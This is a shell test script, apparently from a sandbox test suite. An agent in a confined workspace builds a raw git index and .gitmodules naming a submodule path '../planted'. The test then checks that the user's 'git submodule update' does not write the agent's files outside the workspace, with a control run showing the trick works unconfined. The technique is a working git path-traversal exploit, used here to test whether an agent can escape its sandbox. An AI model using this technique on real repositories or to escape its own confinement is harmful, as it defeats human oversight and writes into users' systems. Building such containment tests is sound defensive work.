# A program names a submodule "../planted" in the index and in .gitmodules: the person's git submodule update clones what an agent wrote outside the space.
needs walls python3
source "$ATTACK/gitlib.sh"
repository "$SPACE"
cat >index.py <<'END'
import hashlib, struct, subprocess
def rev(*a): return bytes.fromhex(subprocess.run(["git", *a], capture_output=True).stdout.decode().strip())
entries = [(b"../planted", 0o160000, rev("-C", "source", "rev-parse", "HEAD")), (b".gitmodules", 0o100644, rev("hash-object", "-w", ".gitmodules")), (b"one", 0o100644, rev("rev-parse", "HEAD:one"))]
out = b"DIRC" + struct.pack(">II", 2, len(entries))
for n, mode, sha in entries:
    e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + sha + struct.pack(">H", len(n)) + n
    out += e + b"\0" * (8 - len(e) % 8)
open(".git/index", "wb").write(out + hashlib.sha1(out).digest())
END
cp index.py "$SCRATCH/index.py"
script="git init -q source && echo 'touch $PROOF' >source/run && git -C source add run && git -C source -c user.name=a -c user.email=a@b commit -qm a
printf '[submodule \"x\"]\n\tpath = ../planted\n\turl = %s/source\n' \$PWD >.gitmodules"
room "$script; python3 index.py && echo made"
says made
(git submodule init; git submodule update --init; git submodule update --init --recursive) >>"$SCRATCH/person" 2>&1 </dev/null || true
none "$HOME/planted/run" "git submodule update of the person's wrote a program's files outside the space"
if ((${#broken[@]} == 0)); then
	repository "$HOME/deep/other" && cd "$HOME/deep/other" && bash -c "$script; python3 $SCRATCH/index.py" >>"$SCRATCH/controls" 2>&1 && git submodule update --init >>"$SCRATCH/controls" 2>&1 </dev/null || true
	[ -e "$HOME/deep/planted/run" ] || dead "git clones nothing there: $(tail -n 1 "$SCRATCH/controls")"
fi
held
